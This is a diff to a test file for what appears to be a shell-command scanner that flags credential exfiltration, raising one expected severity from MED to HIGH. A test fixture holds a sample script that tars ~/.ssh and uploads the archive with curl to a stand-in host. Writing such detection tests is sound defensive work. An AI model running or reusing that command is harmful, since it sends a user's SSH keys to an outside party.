@@ -39,10 +39,10 @@ describe('shell checks', () => {
     expect(shellCommandFindings('gh auth status && curl -s https://api.github.com/rate_limit', ctx).filter((f) => f.category === 'exfiltration')).toEqual([]);
   });
 
-  it('reports credential files archived on one line and uploaded on another, at CRIT only when the script runs by itself', () => {
+  it('reports credential files archived on one line and uploaded on another, at CRIT when the script runs by itself and HIGH when run by hand', () => {
     const script = 'tar czf /tmp/b.tgz ~/.ssh\ncurl -F "f=@/tmp/b.tgz" https://x.example/u\n';
     expect(shellScriptFindings(script, ctx)[0]?.severity).toBe('CRIT');
-    expect(shellScriptFindings(script, { ...ctx, automatic: false })[0]?.severity).toBe('MED');
+    expect(shellScriptFindings(script, { ...ctx, automatic: false })[0]?.severity).toBe('HIGH');
     expect(shellScriptFindings('tar czf /tmp/b.tgz dist\ncurl -F "f=@/tmp/b.tgz" https://x.example/u\n', ctx)).toEqual([]);
   });
 });
